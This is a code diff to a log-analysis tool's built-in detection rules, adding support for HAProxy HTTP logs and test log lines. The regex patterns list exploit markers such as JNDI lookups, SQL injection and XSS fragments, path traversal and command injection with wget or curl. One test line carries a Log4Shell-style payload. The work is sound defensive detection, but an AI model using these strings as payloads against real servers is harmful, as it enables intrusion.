@@ -3352,6 +3352,33 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
     }
   },
   {
+    "file": "src/converters/syslog/rules/applog-haproxy.yaml",
+    "rules": [],
+    "logformat": {
+      "program": "haproxy-http",
+      "aliases": [
+        "haproxy-httplog"
+      ],
+      "description": "HAProxy HTTP log, read as a web access log",
+      "syslogTags": [
+        "haproxy"
+      ],
+      "syslogPrefix": [
+        {
+          "prefix": "^(?<client>[0-9A-Fa-f:.]{2,45}):\\d{1,5} \\[[0-9A-Za-z/:.]{20,32}\\] [^ ]{1,128} [^ /]{1,128}/[^ ]{1,128} -?\\d{1,10}/-?\\d{1,10}/-?\\d{1,10}/-?\\d{1,10}/\\+?-?\\d{1,10} (?<status>\\d{3}) \\+?(?<size>\\d{1,20}) [^ ]{1,64} [^ ]{1,64} [A-Za-z-]{4} \\d{1,10}/\\d{1,10}/\\d{1,10}/\\d{1,10}/\\+?\\d{1,10} \\d{1,10}/\\d{1,10} (?:\\{(?<headers>[^{}\"]{0,2048})\\} )?(?:\\{[^{}\"]{0,2048}\\} )?\"(?<request>[A-Z]{3,10} [^ \"]{1,8000} HTTP/\\d\\.\\d)\"$",
+          "message": "{client} - - [-] \"{request}\" {status} {size} \"-\" \"{headers}\""
+        }
+      ],
+      "lines": [
+        {
+          "prefix": "^(?<client>[0-9A-Fa-f:.]{2,45}):\\d{1,5} \\[(?<time>\\d\\d/[A-Z][a-z]{2}/\\d{4}:\\d\\d:\\d\\d:\\d\\d)(?:\\.\\d{1,6})?\\] [^ ]{1,128} [^ /]{1,128}/[^ ]{1,128} -?\\d{1,10}/-?\\d{1,10}/-?\\d{1,10}/-?\\d{1,10}/\\+?-?\\d{1,10} (?<status>\\d{3}) \\+?(?<size>\\d{1,20}) [^ ]{1,64} [^ ]{1,64} [A-Za-z-]{4} \\d{1,10}/\\d{1,10}/\\d{1,10}/\\d{1,10}/\\+?\\d{1,10} \\d{1,10}/\\d{1,10} (?:\\{(?<headers>[^{}\"]{0,2048})\\} )?(?:\\{[^{}\"]{0,2048}\\} )?\"(?<request>[A-Z]{3,10} [^ \"]{1,8000} HTTP/\\d\\.\\d)\"$",
+          "time": "DD/MMM/YYYY:hh:mm:ss",
+          "message": "{client} - - [-] \"{request}\" {status} {size} \"-\" \"{headers}\""
+        }
+      ]
+    }
+  },
+  {
     "file": "src/converters/syslog/rules/applog-hlds.yaml",
     "rules": [
       {
@@ -3572,7 +3599,8 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
       {
         "id": "http-access.exploit-in-request",
         "programs": [
-          "http-access"
+          "http-access",
+          "haproxy-http"
         ],
         "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} [^ ]{1,256} \\[[^\\]]{1,40}\\] \"(?<method>[A-Z]{3,10}) (?=[^ \"]{0,4096}?(?<payload>\\$\\{jndi:|\\$%7[Bb]jndi|%24%7[Bb]jndi|/etc/passwd|/etc/shadow|%2[Ff]etc%2[Ff]passwd|\\.\\./\\.\\./|\\.\\.%2[Ff]\\.\\.|%2[Ee]%2[Ee]%2[Ff]|%2[Ee]%2[Ee]/|\\.%2[Ee]/|[Uu][Nn][Ii][Oo][Nn](?:\\+|%20|/\\*\\*/)(?:[Aa][Ll][Ll](?:\\+|%20))?[Ss][Ee][Ll][Ee][Cc][Tt]|<script|%3[Cc]script|eval-stdin\\.php|cmd\\.exe|/bin/sh|\\bwget(?:\\+|%20)http|\\bcurl(?:\\+|%20)http|%252[Ee]%252[Ee]|\\.\\.%5[Cc]|win\\.ini|boot\\.ini|/proc/self/environ|php://(?:input|filter)|php%3[Aa]%2[Ff]%2[Ff]|data://text|expect://|file:///|file%3[Aa]%2[Ff]%2[Ff]%2[Ff]|(?:'|%27)(?:\\+|%20)(?:[Oo][Rr]|[Aa][Nn][Dd])(?:\\+|%20)|(?:\\+|%20)[Oo][Rr](?:\\+|%20)\\d{1,5}=\\d{1,5}|[Ss][Ll][Ee][Ee][Pp](?:\\(|%28)\\d|[Bb][Ee][Nn][Cc][Hh][Mm][Aa][Rr][Kk](?:\\(|%28)|[Ii][Nn][Ff][Oo][Rr][Mm][Aa][Tt][Ii][Oo][Nn]_[Ss][Cc][Hh][Ee][Mm][Aa]|[Ww][Aa][Ii][Tt][Ff][Oo][Rr](?:\\+|%20)[Dd][Ee][Ll][Aa][Yy]|@@version|%40%40version|[Cc][Oo][Nn][Cc][Aa][Tt](?:\\(|%28)0x|extractvalue(?:\\(|%28)|updatexml(?:\\(|%28)|(?:<|%3[Cc])(?:svg|iframe|img|body)(?:/|%2[Ff]|%20|\\+)|javascript(?::|%3[Aa])|alert(?:\\(|%28)|document\\.cookie|on(?:error|load)(?:=|%3[Dd])|(?:;|%3[Bb]|\\||%7[Cc]|`|%60)(?:wget|curl|uname|chmod|busybox|bash)(?:\\+|%20|%3[Bb]|;)|\\$\\((?:wget|curl)|%24%28(?:wget|curl)|\\$\\{IFS\\}|%24%7[Bb]IFS|invokefunction|call_user_func_array|allow_url_include|auto_prepend_file|base64_decode(?:\\(|%28)|class\\.module\\.classLoader|%\\{\\(#|%25%7[Bb]%28%23|\\$\\{\\(#|%24%7[Bb]%28%23|\\.\\./vpns/|/mgmt/tm/util/bash|autodiscover\\.json(?:\\?|%3[Ff])@|element_parents=account|connector\\.minimal\\.php|GponForm/diag_Form|setup\\.cgi\\?next_file=|/bin/busybox|XDEBUG_SESSION_START|vropspluginui/rest/services|\\(\\)(?:%20|\\+)\\{|%28%29(?:%20|\\+)%7[Bb]))(?<path>[^ \"]{1,4096}) HTTP/\\d\\.\\d\" (?<status>\\d{3}) ",
         "category": [
@@ -3811,6 +3839,17 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
             }
           },
           {
+            "line": "Oct 10 13:55:36 lb haproxy[14389]: 192.0.2.137:33317 [10/Oct/2023:13:55:36.655] http-in static/srv1 10/0/30/69/109 200 2750 - - ---- 1/1/1/1/0 0/0 \"GET /?x=${jndi:ldap://198.51.100.1/a} HTTP/1.1\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.137"
+                }
+              ],
+              "Priority": "Medium"
+            }
+          },
+          {
             "line": "198.51.100.42 - - [01/Feb/2024:08:00:00 +0000] \"GET /search?q=rock+and+roll HTTP/1.1\" 200 900 \"-\" \"Mozilla/5.0\"",
             "expect": null
           },
@@ -3823,7 +3862,8 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
       {
         "id": "http-access.exploit-in-headers",
         "programs": [
-          "http-access"
+          "http-access",
+          "haproxy-http"
         ],
         "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} [^ ]{1,256} \\[[^\\]]{1,40}\\] \"(?<request>[^\"]{0,4096})\" (?<status>\\d{3}) (?:\\d{1,20}|-) (?=[^\\n]{0,16384}?(?:\"(?<shellshock>\\(\\) \\{)|(?<payload>\\$\\{jndi:|\\$\\{\\$\\{)))",
         "category": [
@@ -3900,7 +3940,8 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
       {
         "id": "http-access.remote-file-inclusion",
         "programs": [
-          "http-access"
+          "http-access",
+          "haproxy-http"
         ],
         "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} [^ ]{1,256} \\[[^\\]]{1,40}\\] \"(?<method>[A-Z]{3,10}) (?=[^ \"]{0,4096}?=(?:https?|ftp)(?:://|%3[Aa]%2[Ff]%2[Ff])[^ \"?&=]{1,1024}(?:\\?{1,2}|%3[Ff]|%00|\\.txt)(?:&[^ \"]{0,1024})? HTTP/)(?<path>[^ \"]{1,4096}) HTTP/\\d\\.\\d\" (?<status>\\d{3}) ",
         "category": [
@@ -3957,7 +3998,8 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
       {
         "id": "http-access.wordpress-login-failed",
         "programs": [
-          "http-access"
+          "http-access",
+          "haproxy-http"
         ],
         "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} [^ ]{1,256} \\[[^\\]]{1,40}\\] \"POST (?<path>/(?:[^ \"/]{1,64}/){0,4}wp-login\\.php) HTTP/\\d\\.\\d\" 200 ",
         "category": [
@@ -3995,7 +4037,8 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
       {
         "id": "http-access.basic-auth-failed",
         "programs": [
-          "http-access"
+          "http-access",
+          "haproxy-http"
         ],
         "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} (?!- )(?<user>[^ ]{1,256}) \\[[^\\]]{1,40}\\] \"(?<method>[A-Z]{3,10}) (?<path>[^ \"]{1,4096}) HTTP/\\d(?:\\.\\d)?\" 401 ",
         "category": [
@@ -4096,7 +4139,8 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
       {
         "id": "http-access.credentials-refused",
         "programs": [
-          "http-access"
+          "http-access",
+          "haproxy-http"
         ],
         "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} - \\[[^\\]]{1,40}\\] \"(?<method>[A-Z]{3,10}) (?<path>[^ \"]{1,4096}) HTTP/\\d(?:\\.\\d)?\" 401 (?=[^\\n]{0,16384}?\"(?:Authorization|Proxy-Authorization)\":\\[\")",
         "category": [
@@ -4139,7 +4183,8 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
       {
         "id": "http-access.login-failed",
         "programs": [
-          "http-access"
+          "http-access",
+          "haproxy-http"
         ],
         "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} [^ ]{1,256} \\[[^\\]]{1,40}\\] \"POST (?:(?<path>[^ \"]{1,4096}) HTTP/\\d(?:\\.\\d)?\" 401 |(?<path2>(?=[^ \"?]{0,1024}?(?:[Ll]og[-_]?[Ii]n|[Ll]ogon|[Ss]ign[-_]?[Ii]n|/auth|/session|/token|j_security_check|wp-login\\.php))[^ \"]{1,4096}) HTTP/\\d(?:\\.\\d)?\" 403 )",
         "category": [
@@ -4215,7 +4260,8 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
       {
         "id": "http-access.scanner-user-agent",
         "programs": [
-          "http-access"
+          "http-access",
+          "haproxy-http"
         ],
         "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} [^ ]{1,256} \\[[^\\]]{1,40}\\] \"(?<request>[^\"]{0,4096})\" (?<status>\\d{3}) (?:\\d{1,20}|-) \"[^\"]{0,2048}\" \"(?=[^\"]{0,1024}?(?<tool>sqlmap|[Nn]ikto|Nmap Scripting Engine|Nimbostratus-Bot|masscan|zgrab|[Nn]uclei|WPScan|DirBuster|gobuster|Netsparker|Acunetix|w3af\\.org|Havij|ZmEu|Morfeus|fimap|Wfuzz|Fuzz Faster U Fool|feroxbuster|OpenVAS|Jorgee|l9explore|l9tcpid|CensysInspect|masscan-ng|Arachni|skipfish|WhatWeb|Wapiti|Paros|Nessus|Expanse, a Palo Alto Networks|InternetMeasurement|Hello, [Ww]orld|Toata dragostea|Mozlila|BackDoorBot|DataCha0s|commix/|\\(Hydra\\)|sqlninja|WebInspect|AppScan|httprint|WebShag|Grabber/|muieblackcat|Zollard|sysscan/|NetSystemsResearch|LeakIX|Keydrop|Mozilla/5\\.0 zgrab|Nikto/|dirb/))(?<ua>[^\"]{0,1024})\"",
         "category": [
@@ -4311,6 +4357,17 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
             }
           },
           {
+            "line": "Oct 10 13:55:36 lb haproxy[14389]: 192.0.2.140:33317 [10/Oct/2023:13:55:36.655] http-in static/srv1 10/0/30/69/109 200 2750 - - ---- 1/1/1/1/0 0/0 {Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)|example.org} \"GET / HTTP/1.1\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.140"
+                }
+              ],
+              "Priority": "Low"
+            }
+          },
+          {
             "line": "198.51.100.54 - - [18/Apr/2022:22:01:07 +0000] \"GET / HTTP/1.1\" 200 612 \"-\" \"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)\"",
             "expect": null
           },
@@ -4323,7 +4380,8 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
       {
         "id": "http-access.harvester-user-agent",
         "programs": [
-          "http-access"
+          "http-access",
+          "haproxy-http"
         ],
         "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} [^ ]{1,256} \\[[^\\]]{1,40}\\] \"(?<request>[^\"]{0,4096})\" (?<status>\\d{3}) (?:\\d{1,20}|-) \"[^\"]{0,2048}\" \"(?=[^\"]{0,1024}?(?<bot>EmailCollector|EmailSiphon|EmailWolf|ExtractorPro|WebEMailExtrac|Atomic_Email_Hunter|CherryPicker|Crescent Internet ToolPak|Franklin Locator|NICErsPRO|WebBandit|Microsoft URL Control|Advanced Email Extractor|Indy Library|TrackBack/1\\.02))(?<ua>[^\"]{0,1024})\"",
         "category": [
@@ -4360,7 +4418,8 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
       {
         "id": "http-access.probe-path",
         "programs": [
-          "http-access"
+          "http-access",
+          "haproxy-http"
         ],
         "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} [^ ]{1,256} \\[[^\\]]{1,40}\\] \"(?<method>[A-Z]{3,10}) (?<path>(?:/[^ \"/]{0,128}){0,6}/(?:\\.env|\\.git/|\\.aws/|\\.ssh/|\\.DS_Store|\\.svn/|wp-login\\.php|wp-admin|xmlrpc\\.php|phpmyadmin|phpMyAdmin|pma/|myadmin|mysqladmin|HNAP1|boaform|GponForm|cgi-bin/|actuator/|solr/|manager/html|owa/auth|_ignition|vendor/phpunit|setup\\.cgi|shell\\?|w00tw00t\\.|wp-content/|wp-includes/|wordpress/|\\.htaccess|\\.htpasswd|\\.vscode/|\\.idea/|\\.docker|server-status|jmx-console|invoker/|web-console|axis2|telescope|druid/|nacos/|hudson|remote/fgt_lang|api/jsonws|mgmt/tm/|dana-na/|\\+CSCOE\\+|cgi-bin/luci|Telerik\\.Web\\.UI|nmaplowercheck|evox/about|console/)[^ \"]{0,2048}) HTTP/\\d\\.\\d\" (?<status>4\\d\\d) ",
         "category": [
@@ -4471,13 +4530,30 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
               ],
               "Priority": "Low"
             }
+          },
+          {
+            "line": "2001:db8::138:33317 [10/Oct/2023:13:55:36.655] http-in static/srv1 10/0/30/69/109 404 2750 - - ---- 1/1/1/1/0 0/0 \"GET /wp-login.php HTTP/1.1\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "2001:db8::138"
+                }
+              ],
+              "Priority": "Low",
+              "Description": "HTTP probe from 2001:db8::138 for /wp-login.php (answered 404)"
+            }
+          },
+          {
+            "line": "Oct 10 13:55:36 lb haproxy[14389]: 192.0.2.139:33317 [10/Oct/2023:13:55:36.655] http-in static/srv1 10/0/30/69/109 200 2750 - - ---- 1/1/1/1/0 0/0 \"GET /index.html HTTP/1.1\"",
+            "expect": null
           }
         ]
       },
       {
         "id": "http-access.sensitive-file",
         "programs": [
-          "http-access"
+          "http-access",
+          "haproxy-http"
         ],
         "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} [^ ]{1,256} \\[[^\\]]{1,40}\\] \"(?<method>[A-Z]{3,10}) (?<path>(?:/[^ \"/?]{0,128}){0,6}/(?:\\.env(?:\\.[a-z]{1,10})?|\\.git/(?:config|HEAD|index)|\\.svn/entries|\\.htpasswd|\\.bash_history|\\.ssh/id_[a-z0-9]{2,10}|id_rsa|wp-config\\.php(?:\\.bak|\\.old|\\.save|\\.swp|\\.txt|~)|[A-Za-z0-9_.-]{0,64}\\.(?:sql|sql\\.gz|sql\\.zip))(?:\\?[^ \"]{0,2048})?) HTTP/\\d(?:\\.\\d)?\" (?<status>\\d{3}) ",
         "category": [
@@ -4535,7 +4611,8 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
       {
         "id": "http-access.wordpress-user-enum",
         "programs": [
-          "http-access"
+          "http-access",
+          "haproxy-http"
         ],
         "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} [^ ]{1,256} \\[[^\\]]{1,40}\\] \"(?<method>[A-Z]{3,10}) (?<path>/(?:[^ \"?/]{1,64}/){0,3}(?:\\?author=\\d{1,9}|(?:index\\.php)?\\?rest_route=/wp/v2/users|wp-json/wp/v2/users)[^ \"]{0,1024}) HTTP/\\d(?:\\.\\d)?\" (?<status>\\d{3}) ",
         "category": [
@@ -4578,7 +4655,8 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
       {
         "id": "http-access.script-not-found",
         "programs": [
-          "http-access"
+          "http-access",
+          "haproxy-http"
         ],
         "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} [^ ]{1,256} \\[[^\\]]{1,40}\\] \"(?<method>[A-Z]{3,10}) (?<path>/[^ \"?]{0,2048}\\.(?:php[0-9]?|asp|aspx|jsp|cgi|pl|exe|dll)(?:\\?[^ \"]{0,2048})?) HTTP/\\d(?:\\.\\d)?\" 404 ",
         "category": [
@@ -4630,7 +4708,8 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
       {
         "id": "http-access.webshell-request",
         "programs": [
-          "http-access"
+          "http-access",
+          "haproxy-http"
         ],
         "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} [^ ]{1,256} \\[[^\\]]{1,40}\\] \"(?<method>[A-Z]{3,10}) (?<path>(?:/[^ \"/?]{0,128}){0,8}/(?:c99|c100|r57|r00t|wso|b374k|webshell|indoxploit|k2ll33d|sh3ll|priv8|0byte|alfa|alfashell|cmd|shell|xleet)\\.php[0-9]?(?:\\?[^ \"]{0,2048})?) HTTP/\\d(?:\\.\\d)?\" (?<status>\\d{3}) ",
         "category": [
@@ -4678,7 +4757,8 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
       {
         "id": "http-access.bad-request",
         "programs": [
-          "http-access"
+          "http-access",
+          "haproxy-http"
         ],
         "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} [^ ]{1,256} \\[[^\\]]{1,40}\\] \"(?<request>\\\\x[0-9A-Fa-f]{2}[^\"]{0,2048}|CONNECT [^ \"]{1,512} HTTP/\\d\\.\\d|(?:GET|HEAD|POST) https?://[^ \"]{1,2048} HTTP/\\d\\.\\d)\" (?<status>4\\d\\d) ",
         "category": [
@@ -14438,6 +14518,9 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
       "lines": [
         {
           "prefix": "^(?:[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12} )?(?<time>\\d{4}-\\d\\d-\\d\\d \\d\\d:\\d\\d:\\d\\d\\.\\d{1,6}) (?:\\d{1,3}\\.\\d{1,2}% )?(?=\\[[A-Z]{3,8}\\] )"
+        },
+        {
+          "prefix": "^(?=You must define a domain called |and you must configure your device to use the proper domain)"
         }
       ]
     }
@@ -15153,6 +15236,20 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
             }
           },
           {
+            "line": "198.51.100.85:40080 [10/Jan/2024:12:00:00.123] www www/<NOSRV> -1/-1/-1/-1/0 400 187 - - PR-- 1/1/0/0/0 0/0 \"<BADREQ>\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "198.51.100.85",
+                  "Port": [
+                    40080
+                  ]
+                }
+              ],
+              "Priority": "Low"
+            }
+          },
+          {
             "line": "Jan 10 12:00:00 lb haproxy[2100]: 198.51.100.84:50005 [10/Jan/2024:12:00:00.001] www www/<NOSRV> -1/-1/-1/-1/5001 408 212 - - cR-- 1/1/0/0/0 0/0 \"<BADREQ>\"",
             "expect": null
           },
@@ -15303,7 +15400,17 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
           }
         ]
       }
-    ]
+    ],
+    "logformat": {
+      "program": "haproxy",
+      "description": "HAProxy log without a syslog header (log ... format raw)",
+      "lines": [
+        {
+          "prefix": "^(?=[0-9A-Fa-f:.]{2,45}:\\d{1,5} \\[(?<time>\\d\\d/[A-Z][a-z]{2}/\\d{4}:\\d\\d:\\d\\d:\\d\\d)(?:\\.\\d{1,6})?\\] )",
+          "time": "DD/MMM/YYYY:hh:mm:ss"
+        }
+      ]
+    }
   },
   {
     "file": "src/converters/syslog/rules/horde.yaml",
